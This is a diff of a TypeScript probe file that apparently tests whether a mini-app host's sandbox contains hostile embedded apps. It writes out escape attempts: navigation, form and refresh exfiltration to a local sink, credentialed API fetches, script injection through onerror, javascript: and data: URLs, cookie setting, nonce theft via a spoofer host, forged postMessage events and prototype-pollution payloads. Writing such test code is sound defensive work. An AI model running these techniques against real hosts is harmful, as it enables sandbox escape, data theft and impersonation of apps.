@@ -35,12 +35,16 @@ export async function breakOut(): Promise<void> {
   await attempt('62 target=_top', () => (add('a', { href: sink + '/top', target: '_top' }) as HTMLElement).click());
   await attempt('63 window.open', () => window.open(sink + '/open'));
   await attempt('63 window.open noopener', () => window.open(sink + '/open', '', 'noopener'));
-  await attempt('63 target=_blank', () => (add('a', { href: sink + '/blank', target: '_blank' }) as HTMLElement).click());
+  await attempt('63 target=_blank', () =>
+    (add('a', { href: sink + '/blank', target: '_blank' }) as HTMLElement).click(),
+  );
   await attempt('64 download', () => (add('a', { href: '/probe.js', download: 'x.js' }) as HTMLElement).click());
   await attempt('65 alert', () => window.alert('x'));
   await attempt('65 prompt', () => window.prompt('x'));
   await attempt('68 fetch', () => fetch(sink + '/fetch', { mode: 'no-cors' }));
-  await attempt('68 fetch of the API', () => fetch(web + '/api/identity.me', { method: 'POST', credentials: 'include' }));
+  await attempt('68 fetch of the API', () =>
+    fetch(web + '/api/identity.me', { method: 'POST', credentials: 'include' }),
+  );
   await attempt('68 XMLHttpRequest', () => {
     const request = new XMLHttpRequest();
     request.open('GET', sink + '/xhr', false);
@@ -74,7 +78,6 @@ export async function breakOut(): Promise<void> {
   for (const [tag, attributes] of loads) add(tag, attributes);
   await attempt('72 object', () => add('object', { data: sink + '/object' }));
   await attempt('72 embed', () => add('embed', { src: sink + '/embed' }));
-  await attempt('71 form', () => (add('form', { action: sink + '/form', method: 'post' }) as HTMLFormElement).submit());
   await attempt('70 STUN', async () => {
     const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
     peer.createDataChannel('x');
@@ -90,23 +93,65 @@ export async function breakOut(): Promise<void> {
   await ran('73 Function', () => (Function as unknown as (code: string) => () => void)('window.escaped = 1')());
   await ran('73 setTimeout of text', () => (setTimeout as (code: string) => void)('window.escaped = 1'));
   await ran('73 javascript: address', () => (add('a', { href: 'javascript:window.escaped=1' }) as HTMLElement).click());
-  await ran('73 data: script', () => ((add('script', {}) as HTMLScriptElement).src = 'data:text/javascript,window.escaped=1'));
+  await ran(
+    '73 data: script',
+    () => ((add('script', {}) as HTMLScriptElement).src = 'data:text/javascript,window.escaped=1'),
+  );
   await ran('73 inline script', () => {
     const script = document.createElement('script');
     script.append('window.escaped = 1');
     document.body.append(script);
   });
-  await ran('73 inline handler', () => (document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror="window.escaped=1">'));
+  await ran(
+    '73 inline handler',
+    () =>
+      (document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror="window.escaped=1">'),
+  );
   await ran('73 foreign script', () => ((add('script', {}) as HTMLScriptElement).src = sink + '/script.js'));
-  await attempt('74 worker', () => new Worker('/probe.js').terminate());
+  await attempt('74 worker', async () => {
+    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
+    return new Promise((resolve, reject) => {
+      worker.onmessage = resolve;
+      worker.onerror = () => reject(new TypeError('refused'));
+    });
+  });
   await attempt('74 service worker', () => navigator.serviceWorker.register('/probe.js'));
   document.cookie = 'stolen=1; domain=localhost';
   document.cookie = `stolen=1; domain=localhost; path=/`;
   await attempt('82 clipboard', () => navigator.clipboard.readText());
-  await attempt('82 geolocation', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)));
+  await attempt(
+    '82 geolocation',
+    () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
+  );
   const done = document.createElement('pre');
   done.textContent = JSON.stringify(results);
   document.body.replaceChildren(done);
+}
+
+/** Leaves its page for the sink, with data in the address: by a form, by itself, and by a refresh. */
+export function leave(): void {
+  const sink = `http://127.0.0.1:${new URLSearchParams(location.hash.slice(1)).get('tgWebAppStartParam')}`;
+  const way = location.pathname.slice(1).replace('.html', '');
+  if (way === 'refresh') {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'refresh';
+    meta.content = `0;url=${sink}/refresh?data`;
+    document.head.append(meta);
+  } else if (way === 'form') {
+    const form = document.createElement('form');
+    form.action = `${sink}/form?data`;
+    form.method = 'post';
+    document.body.append(form);
+    form.submit();
+  } else {
+    location.href = `${sink}/self?data`;
+  }
+}
+
+/** Goes to the host of another app and takes its own nonce along. */
+export function hop(): void {
+  const nonce = new URLSearchParams(location.hash.slice(1)).get('vecheNonce');
+  location.href = `${location.protocol}//${location.host.replace('hopper', 'spoofer')}/#stolenNonce=${nonce}`;
 }
 
 /** Speaks as if it were the app in the panel, with the nonce of that app. */
@@ -118,7 +163,10 @@ export function spoof(): void {
   for (const target of [window.parent, top]) {
     target.postMessage(JSON.stringify({ veche: 'hello', version: 1, nonce }), '*');
     target.postMessage(JSON.stringify({ eventType: 'web_app_close' }), '*');
-    target.postMessage(JSON.stringify({ eventType: 'web_app_setup_main_button', eventData: { is_visible: true, text: 'Обман' } }), '*');
+    target.postMessage(
+      JSON.stringify({ eventType: 'web_app_setup_main_button', eventData: { is_visible: true, text: 'Обман' } }),
+      '*',
+    );
   }
   document.body.textContent = 'spoke';
 }
@@ -158,7 +206,10 @@ export function babble(): void {
     '{"eventType":"__proto__","eventData":{"isAdmin":true}}',
     '{"__proto__":{"isAdmin":true},"eventType":"constructor"}',
     '{"eventType":{"toString":1}}',
-    JSON.stringify({ eventType: 'web_app_setup_main_button', eventData: { text: 'x'.repeat(70_000), is_visible: true } }),
+    JSON.stringify({
+      eventType: 'web_app_setup_main_button',
+      eventData: { text: 'x'.repeat(70_000), is_visible: true },
+    }),
     new ArrayBuffer(1 << 20),
     Array.from({ length: 100_000 }, (_value, index) => ({ index })),
   ];
